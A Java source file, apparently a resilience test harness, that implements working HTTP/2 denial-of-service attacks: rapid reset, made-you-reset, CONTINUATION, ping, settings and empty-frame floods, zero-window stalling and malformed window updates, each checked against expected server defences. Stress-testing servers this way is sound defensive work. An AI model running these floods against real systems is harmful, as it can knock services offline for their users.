package io.thalweg.hostile;

import java.io.IOException;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** Frames of HTTP/2 that are cheap to send and dear to take. */
final class FrameAttacks {
  private static final String CALM = "GOAWAY ENHANCE_YOUR_CALM";
  private static final int FRAMES_AT_ONCE = 64;
  private static final int CANCEL = 8;
  private static final int SECONDS = 2;

  private FrameAttacks() {}

  static List<Attack> all() {
    return List.of(
        new Attack(
            "rapid-reset",
            "calls that are cancelled at once (CVE-2023-44487)",
            Set.of("frames", CALM, "closed"),
            (target, sight) -> flood(target, sight, FrameAttacks::reset)),
        new Attack(
            "made-you-reset",
            "calls with frames that make the server cancel them (CVE-2025-8671)",
            Set.of("frames", CALM, "closed"),
            (target, sight) -> flood(target, sight, FrameAttacks::makeReset)),
        new Attack(
            "continuation-flood",
            "headers that never end, in empty and in full frames (CVE-2024-27316)",
            Set.of(CALM, "GOAWAY PROTOCOL_ERROR", "closed"),
            FrameAttacks::continuation),
        new Attack(
            "ping-flood",
            "pings without end",
            Set.of("frames", CALM, "closed"),
            (target, sight) -> flood(target, sight, c -> c.write(Frame.ping(1)))),
        new Attack(
            "settings-flood",
            "settings without end, their acknowledgements not read",
            Set.of("frames", CALM, "closed"),
            FrameAttacks::settings),
        new Attack(
            "empty-frames",
            "empty data, padding and priorities without end (CVE-2019-9518)",
            Set.of("frames", CALM, "closed"),
            FrameAttacks::empty),
        new Attack(
            "zero-window",
            "a hundred calls on each connection whose answers are never let through",
            Set.of("open"),
            FrameAttacks::zeroWindow),
        new Attack(
            "window-overflow",
            "windows beyond 2^31 - 1, of 0, and in frames of a wrong size",
            Set.of(
                "GOAWAY FLOW_CONTROL_ERROR",
                "GOAWAY PROTOCOL_ERROR",
                "GOAWAY FRAME_SIZE_ERROR",
                "RST_STREAM FLOW_CONTROL_ERROR",
                "RST_STREAM PROTOCOL_ERROR",
                "closed"),
            FrameAttacks::windows));
  }

  /** One turn of a flood. */
  private interface Turn {
    void write(RawConnection connection) throws IOException;
  }

  /** On one connection after the other: it is connected again whenever the node has enough. */
  private static void flood(Target target, Sight sight, Turn turn) throws Exception {
    long deadline = target.deadline();
    while (System.nanoTime() < deadline) {
      try (RawConnection connection = RawConnection.open(target)) {
        long turns = 0;
        try {
          while (!connection.hasEnded() && System.nanoTime() < deadline) {
            for (int i = 0; i < FRAMES_AT_ONCE; i++) {
              turn.write(connection);
            }
            connection.flush();
            turns += FRAMES_AT_ONCE;
          }
        } catch (IOException closed) {
          // It tells what it has ended with.
        }
        sight.add("frames", turns);
        if (System.nanoTime() < deadline) {
          sight.add(connection.end(SECONDS));
        }
      } catch (IOException notAdmitted) {
        sight.add("closed");
      }
    }
  }

  private static void reset(RawConnection connection) throws IOException {
    int stream = connection.call(Body.INGEST, Map.of());
    connection.write(Frame.reset(stream, CANCEL));
  }

  /** A window may not grow by nothing: an error of the stream. */
  private static void makeReset(RawConnection connection) throws IOException {
    int stream = connection.call(Body.INGEST, Map.of());
    connection.write(Frame.windowUpdate(stream, 0));
  }

  private static void continuation(Target target, Sight sight) throws Exception {
    byte[] full = Hpack.literal("x", "y".repeat(16_000));
    for (byte[] part : List.of(new byte[0], new byte[] {0}, full)) {
      long deadline = target.deadline();
      try (RawConnection connection = RawConnection.open(target)) {
        int stream = connection.nextStream();
        connection.write(Frame.headers(stream, 0, Hpack.call(Body.INGEST, Map.of())));
        Frame more = new Frame(Frame.CONTINUATION, 0, stream, part);
        try {
          while (!connection.hasEnded() && System.nanoTime() < deadline) {
            connection.write(more);
            connection.flush();
          }
        } catch (IOException closed) {
          // It tells what it has ended with.
        }
        sight.add(connection.end(SECONDS));
      } catch (IOException notAdmitted) {
        sight.add("closed");
      }
    }
  }

  private static void settings(Target target, Sight sight) throws Exception {
    flood(target, sight, connection -> connection.write(Frame.setting(5, 16_384)));
    long deadline = target.deadline();
    try (var socket = target.connect(1 << 12)) {
      // Nobody reads here, so the node can't get rid of its acknowledgements.
      var out = socket.getOutputStream();
      byte[] settings = Frame.settings().bytes();
      byte[] many = new byte[settings.length * 1_000];
      for (int i = 0; i < many.length; i += settings.length) {
        System.arraycopy(settings, 0, many, i, settings.length);
      }
      Watchdog.closeAt(socket, deadline);
      out.write(RawConnection.PREFACE);
      while (System.nanoTime() < deadline) {
        out.write(many);
      }
    } catch (IOException closed) {
      sight.add("closed");
    }
  }

  private static void empty(Target target, Sight sight) throws Exception {
    long deadline = target.deadline();
    for (Frame frame :
        List.of(
            Frame.data(1, 0, new byte[0]),
            new Frame(Frame.DATA, Frame.PADDED, 1, new byte[] {0}),
            new Frame(Frame.PRIORITY, 0, 1, new byte[] {0, 0, 0, 0, 1}))) {
      long each = System.nanoTime() + target.lasting().toNanos() / 3;
      try (RawConnection connection = RawConnection.open(target)) {
        connection.call(Body.INGEST, Map.of());
        try {
          while (!connection.hasEnded() && System.nanoTime() < Math.min(each, deadline)) {
            for (int i = 0; i < FRAMES_AT_ONCE; i++) {
              connection.write(frame);
            }
            connection.flush();
            sight.add("frames", FRAMES_AT_ONCE);
          }
        } catch (IOException closed) {
          sight.add("closed");
        }
        if (connection.hasEnded()) {
          sight.add(connection.end(0));
        }
      } catch (IOException notAdmitted) {
        sight.add("closed");
      }
    }
  }

  private static void zeroWindow(Target target, Sight sight) throws Exception {
    int connections = target.many(20);
    RawConnection[] open = new RawConnection[connections];
    try {
      for (int c = 0; c < connections; c++) {
        open[c] =
            RawConnection.open(
                target.connect(),
                Frame.setting(Frame.INITIAL_WINDOW_SIZE, 0),
                RawConnection.Reading.NOTHING_GIVEN_BACK);
        for (int i = 0; i < 100; i++) {
          open[c].call(Body.INGEST_BATCH, Map.of(), Body.of(Body.sample("zero-" + i)));
        }
      }
      Thread.sleep(target.lasting());
      for (RawConnection connection : open) {
        sight.add(connection.outcome(1, 0));
      }
    } finally {
      Arrays.stream(open).filter(connection -> connection != null).forEach(RawConnection::close);
    }
  }

  private static void windows(Target target, Sight sight) throws Exception {
    for (Frame wrong :
        List.of(
            Frame.windowUpdate(0, Integer.MAX_VALUE),
            Frame.windowUpdate(1, Integer.MAX_VALUE),
            Frame.windowUpdate(0, 0),
            Frame.windowUpdate(1, 0),
            new Frame(Frame.WINDOW_UPDATE, 0, 0, new byte[3]),
            Frame.setting(Frame.INITIAL_WINDOW_SIZE, -1))) {
      try (RawConnection connection = RawConnection.open(target)) {
        int stream = connection.call(Body.INGEST, Map.of());
        connection.write(wrong, wrong);
        connection.flush();
        sight.add(connection.outcome(stream, SECONDS));
      } catch (IOException closed) {
        sight.add("closed");
      }
    }
  }
}
